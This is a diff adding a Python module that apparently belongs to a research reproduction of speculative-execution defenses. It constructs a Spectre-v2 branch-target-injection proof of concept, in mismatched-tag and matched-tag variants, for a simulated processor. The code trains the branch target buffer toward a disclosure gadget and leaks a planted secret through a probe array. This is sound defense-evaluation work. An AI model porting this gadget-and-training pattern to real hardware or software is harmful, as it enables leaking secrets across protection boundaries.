@@ -1,0 +1,137 @@
+"""Spectre-v2 (BTB, branch target injection).
+
+The attacker trains an indirect ``BLR`` to jump to a disclosure gadget,
+then runs it with a slow-to-resolve benign target: the BTB predicts the
+gadget, and fetch speculates into it while the real target is still being
+loaded from a cold line.
+
+Two variants realize Table 1's full-vs-partial distinction for SpecASan
+(§4.3): ``mismatched-tag`` dereferences the secret with a public-key
+pointer (tag check fails — SpecASan blocks the ACCESS), while
+``matched-tag`` models an in-victim-domain gadget whose pointer carries the
+secret's own tag (the tag check passes — only control-flow enforcement can
+stop it).  Neither gadget starts with a BTI landing pad, so SpecCFI refuses
+the speculative target in both.
+"""
+
+from __future__ import annotations
+
+import struct
+
+from repro.attacks.common import (
+    ARRAY1_BASE,
+    AttackProgram,
+    make_probe_array,
+    plant_secret,
+    PROBE_BASE,
+    SECRET_BASE,
+    TABLES_BASE,
+    TAG_PUBLIC,
+    TAG_SECRET,
+    emit_transmit,
+)
+from repro.isa.builder import ProgramBuilder
+from repro.isa.program import DataSegment
+from repro.mte.tags import with_key
+
+# Enough iterations that the 8-bit global history saturates (all-taken from
+# the loop branch) before the attack run, so the trained BTB slot and the
+# attack run's lookup share the same history-hashed index.
+TRAIN_ITERS = 12
+SECRET_VALUE = 11
+TRAIN_VALUE = 1
+
+VARIANTS = ("mismatched-tag", "matched-tag")
+
+#: Table bases (all within the warm TABLES region except the cold rows).
+OFFSETS_TABLE = TABLES_BASE            # per-iteration byte offsets
+PTR_TABLE = TABLES_BASE + 0x200        # gadget data pointers
+TGT_TABLE = TABLES_BASE + 0x600        # branch targets
+#: Byte offset of the attack-run row — its own cache line (past every
+#: training row), cold until used.
+COLD_ROW = 0x100
+
+
+def build(variant: str = "mismatched-tag") -> AttackProgram:
+    """Construct the Spectre-v2 PoC for ``variant``."""
+    if variant not in VARIANTS:
+        raise ValueError(f"unknown spectre-v2 variant {variant!r}")
+    key = TAG_PUBLIC if variant == "mismatched-tag" else TAG_SECRET
+    b = ProgramBuilder()
+
+    b.bytes_segment("array1", ARRAY1_BASE, bytes([TRAIN_VALUE] * 16),
+                    tag=TAG_PUBLIC)
+    plant_secret(b, SECRET_VALUE)
+    make_probe_array(b)
+
+    # Victim warms its secret line with the correct key.
+    b.li("X20", with_key(SECRET_BASE, TAG_SECRET), note="victim pointer")
+    b.ldrb("X21", "X20", note="victim warms its secret line")
+
+    b.li("X3", PROBE_BASE)
+    b.li("X26", OFFSETS_TABLE)
+    b.li("X22", PTR_TABLE)
+    b.li("X23", TGT_TABLE)
+    # Pre-warm the attack-run pointer row (only the *target* row must stay
+    # cold — it supplies the speculation window).
+    b.li("X27", PTR_TABLE + COLD_ROW)
+    b.ldr("X27", "X27", note="warm the attack-run data-pointer row")
+    b.li("X25", 0, note="iteration counter")
+
+    b.label("loop")
+    b.lsl("X24", "X25", imm=3)
+    b.ldr("X24", "X26", rm="X24", note="row offset for this run")
+    b.ldr("X4", "X22", rm="X24", note="gadget data pointer")
+    b.ldr("X9", "X23", rm="X24", note="branch target (cold on attack run)")
+    b.blr("X9", note="victim indirect call")
+    b.add("X25", "X25", imm=1)
+    b.cmp("X25", imm=TRAIN_ITERS + 1)
+    b.b_cond("LO", "loop")
+    b.halt()
+
+    b.label("gadget")  # deliberately NOT a BTI landing pad
+    b.ldrb("X5", "X4", note="ACCESS: dereference gadget pointer")
+    emit_transmit(b, "X5", "X3")
+    b.ret()
+
+    b.label("benign")
+    b.bti(note="legitimate indirect target")
+    b.ret()
+
+    program = b.build()
+    gadget = program.address_of("gadget")
+    benign = program.address_of("benign")
+    offsets = [i * 8 for i in range(TRAIN_ITERS)] + [COLD_ROW]
+    ptr_rows = {i * 8: with_key(ARRAY1_BASE, TAG_PUBLIC)
+                for i in range(TRAIN_ITERS)}
+    ptr_rows[COLD_ROW] = with_key(SECRET_BASE, key)
+    tgt_rows = {i * 8: gadget for i in range(TRAIN_ITERS)}
+    tgt_rows[COLD_ROW] = benign
+    program.add_segment(DataSegment(
+        "offsets", OFFSETS_TABLE, _pack_words(dict(enumerate(
+            offsets)), stride=8)))
+    program.add_segment(DataSegment("ptr_rows", PTR_TABLE,
+                                    _pack_sparse(ptr_rows)))
+    program.add_segment(DataSegment("tgt_rows", TGT_TABLE,
+                                    _pack_sparse(tgt_rows)))
+
+    return AttackProgram(
+        name="spectre-v2", variant=variant,
+        builder_program=program,
+        secret_value=SECRET_VALUE, secret_address=SECRET_BASE,
+        benign_values=[TRAIN_VALUE],
+        description="branch target injection via BTB training")
+
+
+def _pack_words(rows: dict, stride: int = 1) -> bytes:
+    """Pack {index: value} into little-endian 64-bit words at index*stride."""
+    return _pack_sparse({index * stride: value for index, value in rows.items()})
+
+
+def _pack_sparse(rows: dict) -> bytes:
+    """Pack {byte_offset: word} into a zero-filled blob."""
+    size = max(rows) + 8
+    blob = bytearray(size)
+    for offset, value in rows.items():
+        blob[offset:offset + 8] = struct.pack("<Q", value & (2**64 - 1))
+    return bytes(blob)
